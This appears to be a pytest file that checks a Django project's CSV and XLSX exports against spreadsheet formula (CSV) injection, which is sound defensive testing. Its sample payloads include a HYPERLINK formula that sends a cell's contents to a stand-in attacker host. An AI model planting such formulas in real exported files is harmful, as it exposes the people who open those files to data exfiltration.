"""Every CSV and XLSX export neutralises text a spreadsheet would run as a formula (CSV injection)."""

from __future__ import annotations

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from dayi.core.spreadsheet import csv_text, neutral, unquote, xlsx_cell

DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A1)']


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_gets_a_leading_quote_in_csv(text: str) -> None:
    assert csv_text(text) == "'" + text
    assert unquote(csv_text(text)) == text


@pytest.mark.parametrize("text", ["显微镜", "a=b", "0571-88206789", "'quoted", ""])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutral(text) == text
    assert unquote(text) == text


def test_numbers_dates_and_money_are_not_text() -> None:
    assert csv_text(-3) == "-3"
    assert csv_text(Decimal("-12.5")) == "-12.50"
    assert csv_text(dt.date(2026, 3, 2)) == "2026-03-02"
    assert csv_text(None) == ""


def test_xlsx_text_is_a_string_cell_with_the_quote_prefix() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append([xlsx_cell(sheet, t) for t in [*DANGEROUS, "显微镜", 7]])
    out = io.BytesIO()
    book.save(out)

    cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())

    for cell, text in zip(cells, DANGEROUS, strict=False):
        assert cell.data_type == "s"
        assert cell.value == text.replace("\r", "\n")  # XML keeps no bare carriage return
        assert cell.quotePrefix
    assert cells[len(DANGEROUS)].value == "显微镜"
    assert not cells[len(DANGEROUS)].quotePrefix
    assert cells[-1].value == 7


def test_every_export_module_writes_through_the_shared_helpers() -> None:
    # A new export that builds cells itself would skip the neutralisation: a module that writes CSV must
    # use csv_text, one that writes a workbook xlsx_cell (dayi/core/spreadsheet.py), and no other
    # module builds workbook cells.
    offenders = []
    dayi = Path(__file__).resolve().parents[2] / "dayi"
    for path in dayi.rglob("*.py"):
        if path == dayi / "core" / "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "WriteOnlyCell" in text or re.search(r"\.cell\(.*value=", text):
            offenders.append(f"{path}: builds workbook cells itself")
        if "csv.writer(" in text and "csv_text" not in text:
            offenders.append(f"{path}: writes CSV without csv_text")
        if "Workbook(" in text and "xlsx_cell" not in text:
            offenders.append(f"{path}: writes a workbook without xlsx_cell")
    assert not offenders, "\n".join(offenders)


@pytest.mark.django_db
def test_the_directorys_xlsx_export_neutralises_a_formula_name(network: Any) -> None:
    from dayi.directory import exporting
    from dayi.directory.queries import InstrumentFilters
    from tests.conftest import make_instrument

    make_instrument(network["zju"], "ZJU-9", name='=HYPERLINK("http://evil.example")')

    with exporting.xlsx_file(InstrumentFilters()) as f:
        rows = list(load_workbook(f).worksheets[0].iter_rows())

    cell = next(r[1] for r in rows if r[0].value == "ZJU-9")
    assert cell.data_type == "s"
    assert cell.quotePrefix
